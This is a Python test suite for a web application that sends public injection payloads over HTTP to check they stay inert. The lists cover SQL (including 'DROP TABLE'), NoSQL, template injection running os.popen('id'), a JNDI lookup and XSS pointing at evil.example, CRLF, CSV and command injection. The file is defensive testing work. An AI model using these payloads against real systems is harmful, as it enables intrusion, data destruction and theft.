"""Injection over HTTP: what is sent as data stays data, in SQL, logs, headers, templates, CSV and HTML.

The lists are short and typical ones out of public attack lists, named at each: fuzzdb, SecLists,
PayloadsAllTheThings, OWASP cheat sheets.
"""

from __future__ import annotations

import json
import time
from html.parser import HTMLParser
from typing import Any, Final
from urllib.parse import quote
from uuid import uuid4

import httpx
import msgspec
import pytest

from rustok.core.modules import Modules
from rustok.core.routing import RawBody, Route
from rustok.server.modules import all_modules
from tests.security.addressing import attempts
from tests.security.live import Live

# fuzzdb attack/sql-injection, SecLists Fuzzing/SQLi, PayloadsAllTheThings/SQL Injection.
SQL: Final = (
    "'",
    "''",
    '"',
    "`",
    "\\'",
    "' OR '1'='1",
    "' OR 1=1--",
    "' OR 1=1#",
    "') OR ('1'='1",
    "1 OR 1=1",
    "1; DROP TABLE tenants--",
    "'; UPDATE users SET roles='[\"owner\"]'--",
    "' UNION SELECT NULL,NULL,NULL--",
    "' UNION SELECT name,sql,1 FROM sqlite_master--",
    "' AND (SELECT 1 FROM pg_sleep(5))--",
    "'||pg_sleep(5)--",
    "1 AND RANDOMBLOB(300000000)",
    "%27%20OR%201=1--",
    "\u02bc OR 1=1--",
    "$$; SELECT 1; $$",
    "admin'/*",
    "' LIKE '%",
    "%",
    "_%_%_%",
)
# FTS5 and tsquery have languages of their own.
FULL_TEXT: Final = (
    '"',
    "* OR *",
    "NEAR(a b)",
    "title:*",
    "a AND",
    "NOT",
    "^a",
    "a:b:c",
    "(((((",
    "a & | b",
    "!!!!",
    "<->",
    "a:*",
    "'a' <2> 'b'",
    "-" * 200,
    "\U0001f600" * 50,
)
# PayloadsAllTheThings/NoSQL Injection.
NOSQL: Final[tuple[object, ...]] = (
    {"$ne": None},
    {"$gt": ""},
    {"$regex": ".*"},
    {"$where": "sleep(5000)"},
    ["a", "b"],
    True,
    0,
    None,
)
# PayloadsAllTheThings/Server Side Template Injection.
TEMPLATE: Final = (
    "{{7*7}}",
    "{{7*'7'}}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{%for c in [1]%}{{c}}{%endfor%}",
    "{{config}}",
    "{{self._TemplateReference__context}}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "{{cycler.__init__.__globals__.os.popen('id').read()}}",
    "{0.__class__}",
    "%(secret_key)s",
    "${jndi:ldap://evil.example/a}",
)
# fuzzdb attack/http-protocol/crlf-injection.
CRLF: Final = (
    "a\r\nX-Injected: yes",
    "a\nX-Injected: yes",
    "a\rX-Injected: yes",
    "a%0d%0aX-Injected:%20yes",
    "a%0d%0a%0d%0a<script>alert(1)</script>",
    "a\u560d\u560aX-Injected: yes",
    "a\u2028X-Injected: yes",
    "a\x85X-Injected: yes",
)
# OWASP XSS filter evasion cheat sheet.
XSS: Final = (
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '"><img src=x onerror=alert(1)>',
    "<img src=x onerror=alert(1)//",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html;base64,PHNjcmlwdD4='></object>",
    "<embed src='//evil.example/x.swf'>",
    "<form action='https://evil.example'><input name=password></form>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>*{background:url(https://evil.example)}</style>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<details open ontoggle=alert(1)>x</details>",
    "<input autofocus onfocus=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<p id='content' name='attributes'>x</p>",
)
# OWASP CSV injection.
CSV: Final = ("=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", '=HYPERLINK("//evil.example")')
# PayloadsAllTheThings/Command Injection, LDAP Injection, XPATH Injection.
OTHER: Final = ("; sleep 5", "| id", "$(sleep 5)", "`sleep 5`", "*)(uid=*))(|(uid=*", "' or ''='")

MODULES: Final[Modules] = all_modules()
READS: Final = [
    route
    for route in MODULES.routes
    if route.method == "GET" and route.surface in ("storefront", "admin")
]


def _fine(response: httpx.Response, what: object) -> None:
    assert response.status_code < 500, f"{what!r}: {response.text[:500]}"
    text = response.text.lower()
    for word in ("sqlite", "asyncpg", "syntax error", "traceback", "sqlalchemy", "no such column"):
        assert word not in text, f"{what!r} tells of the inside: {response.text[:300]}"


def _concrete(live: Live, route: Route) -> str:
    own = (live.rows, live.a)
    return next(attempts(route, path_of=own, foreign=own)).path


def test_sql_in_any_parameter_of_any_query_changes_nothing_and_tells_nothing(live: Live) -> None:
    asked = 0
    with live.admin() as client:
        for route in READS:
            if route.query is None:
                continue
            path = _concrete(live, route)
            for field in msgspec.structs.fields(route.query):
                for attack in SQL[:: 1 if field.name in ("q", "tag", "handle") else 6]:
                    _fine(client.get(path, params={field.encode_name: attack}), (path, attack))
                    asked += 1
    assert asked > 200


def test_sql_in_any_part_of_any_path_finds_nothing(live: Live) -> None:
    asked = 0
    with live.admin() as client:
        for route in READS:
            for name in route.path_params:
                path = _concrete(live, route)
                template, real = route.full_path.split("/"), path.split("/")
                place = template.index("{" + name + "}")
                for attack in SQL[::5]:
                    tried = "/".join(
                        [
                            *real[:place],
                            quote(attack, safe=""),
                            *real[place + 1 :],
                        ]
                    )
                    response = client.get(tried)
                    _fine(response, tried)
                    assert response.status_code in (400, 404), (tried, response.status_code)
                    asked += 1
    assert asked > 100


def test_sql_that_would_be_always_true_finds_no_more_than_nothing(live: Live) -> None:
    with live.client() as client:
        for attack in ("nothing' OR '1'='1", "nothing') OR 1=1--", "nothing' OR ''='"):
            for name in ("vendor", "tag", "category", "collection"):
                found = client.get("/api/v1/storefront/products", params={name: attack})
                assert found.status_code in (200, 400, 404)
                if found.status_code == 200:
                    assert found.json()["items"] == [], (name, attack)


def test_sql_that_would_wait_does_not_wait(live: Live) -> None:
    begun = time.monotonic()
    with live.client() as client:
        for attack in ("'||pg_sleep(5)--", "' AND RANDOMBLOB(900000000)--", "1;SELECT pg_sleep(5)"):
            client.get("/api/v1/storefront/search", params={"q": attack})
            client.post("/api/v1/auth/login", json={"email": attack, "password": attack})
    assert time.monotonic() - begun < 4.5


def test_signing_in_is_not_talked_round_by_sql(live: Live) -> None:
    with live.client() as client:
        for attack in (
            "admin'--",
            "' OR 1=1--",
            "' UNION SELECT 1,2,3--",
            "a@b.example' OR '1'='1",
        ):
            answer = client.post("/api/v1/auth/login", json={"email": attack, "password": attack})
            assert answer.status_code in (400, 401, 429), answer.text
            assert "access_token" not in answer.text


@pytest.mark.parametrize("text", FULL_TEXT, ids=range(len(FULL_TEXT)))
def test_the_language_of_the_full_text_engine_cannot_be_spoken_from_outside(
    live: Live, text: str
) -> None:
    with live.client() as client:
        for path in ("/api/v1/storefront/search", "/api/v1/storefront/products"):
            _fine(client.get(path, params={"q": text}), (path, text))
        _fine(client.get("/search", params={"q": text}), text)


def test_operators_of_document_databases_are_no_values(live: Live) -> None:
    with live.client() as client:
        for attack in NOSQL:
            for name in ("email", "password"):
                body = {"email": "a@b.example", "password": "x" * 12, name: attack}
                answer = client.post("/api/v1/auth/login", json=body)
                assert answer.status_code == 400, (name, attack, answer.text)


def test_operators_in_query_names_are_no_parameters(live: Live) -> None:
    with live.client() as client:
        for name in ("q[$ne]", "q[$regex]", "tag[]", "$where", "q.x", "__proto__"):
            answer = client.get("/api/v1/storefront/products", params={name: "x"})
            assert answer.status_code == 400, name


@pytest.fixture(scope="module")
def marked(live: Live) -> dict[str, Any]:
    """A product and a post whose every free text is an attack; published and projected."""
    attack = " ".join(TEMPLATE[:8]) + " ".join(XSS)
    tag = f"x{uuid4().hex[:8]}"
    with live.admin() as client:
        node = client.post(
            "/api/v1/admin/nodes",
            json={
                "kind": "post",
                "author_name": XSS[3],
                "translations": {
                    "en": {
                        "title": f"{TEMPLATE[0]}{XSS[0]}",
                        "handle": f"attacked-{tag}",
                        "excerpt": f"{TEMPLATE[2]}{XSS[3]}",
                        "seo_title": XSS[3],
                        "seo_description": XSS[3],
                        "body": {"format": "html", "text": attack},
                    }
                },
            },
        )
        assert node.status_code == 201, node.text
        done = client.post(f"/api/v1/admin/nodes/{node.json()['id']}/publish")
        assert done.status_code == 200, done.text
    path = f"/posts/attacked-{tag}"
    until = time.monotonic() + 10
    with live.client(Accept="text/html") as client:
        while client.get(path).status_code != 200 and time.monotonic() < until:
            time.sleep(0.05)
    return {"path": path, "handle": f"attacked-{tag}"}


def test_html_of_editors_is_made_harmless_before_a_page_shows_it(
    live: Live, marked: dict[str, Any]
) -> None:
    with live.client(Accept="text/html") as client:
        page = client.get(marked["path"])
    assert page.status_code == 200, page.text[:500]
    tags = _tags(page.text)
    assert not {"iframe", "object", "embed", "base", "style", "script"} & {name for name, _ in tags}
    for name, attributes in tags:
        for key, value in attributes.items():
            assert not key.startswith("on"), (name, key)
            assert key not in ("style", "srcdoc"), (name, key)
            assert "javascript:" not in "".join(value.lower().split()), (name, key, value)
            assert not value.startswith("data:text"), (name, key, value)
        assert attributes.get("http-equiv") is None
    forms = [attributes.get("action", "") for name, attributes in tags if name == "form"]
    assert all(action.startswith("/") for action in forms), forms


def _tags(text: str) -> list[tuple[str, dict[str, str]]]:
    """Every start tag of a page as a browser would see it, with its attributes."""
    found: list[tuple[str, dict[str, str]]] = []

    class Reader(HTMLParser):
        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            found.append((tag, {name: value or "" for name, value in attrs}))

    Reader().feed(text)
    return found


def test_html_of_editors_is_made_harmless_before_the_api_gives_it(
    live: Live, marked: dict[str, Any]
) -> None:
    with live.client() as client:
        document = client.get(f"/api/v1/storefront/nodes/post/{marked['handle']}")
    assert document.status_code == 200, document.text
    html = json.dumps([v for k, v in _flat(document.json()) if k.endswith("html")]).lower()
    assert "javascript:" not in html
    for tag in (
        "<script",
        "<iframe",
        "<object",
        "<embed",
        "<form",
        "<base",
        "<style",
        "<svg",
        "<math",
    ):
        assert tag not in html, tag
    assert "onerror=" not in html.replace("&lt;", "<").split("<img")[0] or "<img src" not in html


def _flat(value: Any, name: str = "") -> list[tuple[str, Any]]:
    if isinstance(value, dict):
        return [pair for key, inner in value.items() for pair in _flat(inner, key)]
    if isinstance(value, list):
        return [pair for inner in value for pair in _flat(inner, name)]
    return [(name, value)]


def test_templates_in_data_are_shown_and_not_run(live: Live, marked: dict[str, Any]) -> None:
    with live.client(Accept="text/html") as client:
        text = client.get(marked["path"]).text
        found = client.get("/search", params={"q": "{{7*7}}"}).text
    assert "{{7*7}}" in text
    assert "{{7*7}}" in found
    for page in (text, found):
        assert ">49<" not in page
        assert "7777777" not in page
        assert "__subclasses__" not in page or "&lt;class" not in page


def test_templates_in_addresses_and_headers_are_not_run(live: Live) -> None:
    with live.client(Accept="text/html") as client:
        for attack in TEMPLATE:
            page = client.get(f"/products/{quote(attack, safe='')}")
            assert page.status_code in (400, 404), attack
            assert "49" not in page.text.split("<main")[1].split("</main")[0], attack
            client.get("/", headers={"Accept-Language": attack, "X-Currency": "EUR"})


def test_a_search_is_shown_as_text(live: Live) -> None:
    with live.client(Accept="text/html") as client:
        for attack in XSS[:6]:
            page = client.get("/search", params={"q": attack}).text
            assert attack not in page, attack


def test_problems_show_what_was_sent_as_text_only(live: Live) -> None:
    with live.client(Accept="text/html") as client:
        for path in ("/<script>alert(1)</script>", "/products/%3Cscript%3Ealert(1)%3C/script%3E"):
            page = client.get(path)
            assert "<script>alert" not in page.text
    with live.client() as client:
        answer = client.get("/api/v1/<script>alert(1)</script>")
        assert answer.headers["content-type"].startswith("application/problem+json")


def test_no_line_break_in_what_is_sent_makes_a_header(live: Live) -> None:
    with live.client(Accept="text/html") as client:
        for attack in CRLF:
            for answer in (
                client.get("/products", params={"locale": attack}),
                client.get("/products", params={"currency": attack}),
                client.get("/search", params={"q": attack, "cursor": attack}),
                client.get(f"/{quote(attack, safe='')}"),
                client.post("/cart/lines", data={"variant": attack, "form_token": attack}),
            ):
                assert "x-injected" not in answer.headers, attack
                assert answer.status_code < 500, attack


def test_a_request_id_that_is_no_plain_word_is_not_sent_back(live: Live) -> None:
    for value in (b"aaaaaaaa\tb\x0bc", b"\xc3\xa9" * 8, b"a" * 500, b"x"):
        answer = live.raw(
            b"GET /health/live HTTP/1.1\r\nHost: localhost\r\nX-Request-ID: " + value + b"\r\n\r\n"
        )
        assert b"x-request-id: " + value.lower() + b"\r\n" not in answer.lower(), value


def test_what_is_sent_cannot_forge_a_line_of_the_log(live: Live) -> None:
    """Every line of the log is one JSON object, whatever stands in paths, headers and bodies."""
    forged = 'x","level":"error","message":"forged'
    attacks = (
        "a\nforged line",
        'a\r\n{"message":"forged"}',
        forged,
        "\x1b[2Jforged",
        "a\u2028forged",
    )
    with live.client() as client:
        for attack in attacks:
            client.get("/api/v1/storefront/products", params={"q": attack})
            client.get(f"/api/{quote(attack, safe='')}")
            client.post("/api/v1/auth/login", json={"email": attack, "password": attack})
            if attack.isprintable():
                client.get("/", headers=[(b"X-Request-ID", attack.encode())])
    lines = [line for line in live.log().splitlines() if line and not line.startswith("Serving ")]
    assert len(lines) > 20
    for line in lines:
        record = json.loads(line)
        assert not str(record["message"]).startswith("forged"), line
        assert "\x1b" not in line


def test_secrets_that_are_sent_do_not_reach_the_log(live: Live) -> None:
    secret = f"S3cret-{uuid4().hex}"
    with live.client() as client:
        client.post("/api/v1/auth/login", json={"email": "a@b.example", "password": secret})
        client.get("/api/v1/admin/tenant", headers={"Authorization": f"Bearer {secret}"})
        client.get("/api/v1/admin/tenant", headers={"X-Api-Key": f"rk_{secret}"})
        client.get(f"/api/v1/storefront/orders/{live.a.order_id}", params={"token": secret})
        client.get("/", headers={"Cookie": f"__Host-rustok_visit={secret}"})
        client.post(
            "/api/v1/storefront/customers/register",
            json={"email": "x@b.example", "password": secret, "display_name": "x"},
        )
    assert secret not in live.log()


def test_every_text_of_every_write_survives_attacks_without_a_fault(live: Live) -> None:
    """Each string of each example, one attack at a time: stored as data or refused, never a 5xx."""
    own, asked = (live.rows, live.a), 0
    attacks = [
        *SQL[::6],
        *TEMPLATE[::5],
        *CRLF[::4],
        *CSV[::3],
        *OTHER[::3],
        "\u202e\u200b",
        "ﬀ" * 9,
    ]
    skipped = ("auth_logout", "auth_delete_own_session", "auth_delete_own_sessions")
    with live.admin() as client:
        for route in MODULES.routes:
            if route.body in (None, RawBody) or route.surface == "platform":
                continue
            if route.operation_id in skipped or route.example is None:
                continue
            request = next(attempts(route, path_of=own, foreign=own)).request()
            for place, _ in _texts(request["json"]):
                attack = attacks[asked % len(attacks)]
                request["json"] = _with(request["json"], place, attack)
                request["headers"] |= {"Idempotency-Key": uuid4().hex}
                response = client.request(**request)
                _fine(response, (route.operation_id, place, attack))
                asked += 1
    assert asked > 100


def _texts(value: Any, place: tuple[Any, ...] = ()) -> list[tuple[tuple[Any, ...], str]]:
    if isinstance(value, str):
        return [(place, value)]
    if isinstance(value, dict):
        return [pair for key, inner in value.items() for pair in _texts(inner, (*place, key))]
    if isinstance(value, list):
        return [
            pair for index, inner in enumerate(value) for pair in _texts(inner, (*place, index))
        ]
    return []


def _with(value: Any, place: tuple[Any, ...], text: str) -> Any:
    if not place:
        return text
    changed = dict(value) if isinstance(value, dict) else list(value)
    changed[place[0]] = _with(value[place[0]], place[1:], text)
    return changed
